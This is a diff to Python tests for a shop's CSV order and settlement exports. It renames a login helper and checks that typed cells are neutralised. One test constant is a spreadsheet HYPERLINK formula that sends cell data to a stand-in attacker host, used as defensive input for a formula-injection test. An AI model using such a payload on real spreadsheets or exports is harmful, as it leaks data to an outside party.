@@ -6,7 +6,9 @@ from __future__ import annotations
 import csv
 import io
 
-from orders_testlib import login, payment_code
+from orders_testlib import payment_code
+
+from tests.support import sign_in
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
 
@@ -25,7 +27,7 @@ def test_order_export_neutralises_typed_cells(app, factory, shopper):
     code = payment_code(
         shopper.checkout("cod", receiver_name=FORMULA, address_line="+84 Thôn 2", receiver_phone="0912345678")
     )
-    operator = login(app.test_client(), factory.operator())
+    operator = sign_in(app.test_client(), factory.operator())
     [row] = _rows(operator.get("/quan-tri/don-hang.csv"))
     assert row["code"] == f"{code}-1"
     assert row["receiver_name"] == "'" + FORMULA
@@ -38,7 +40,7 @@ def test_settlement_export_neutralises_typed_cells_and_keeps_negative_amounts(ap
     listing = factory.listing(stock=5, price=300_000)
     assert shopper.add(listing, 1).status_code == 302
     code = payment_code(shopper.checkout("bank_transfer"))
-    operator = login(app.test_client(), factory.operator())
+    operator = sign_in(app.test_client(), factory.operator())
     operator.post(f"/quan-tri/thanh-toan/{code}/xac-nhan", data={"reference": "FT7"})
     operator.post(
         "/quan-tri/doi-soat/chi-tra",
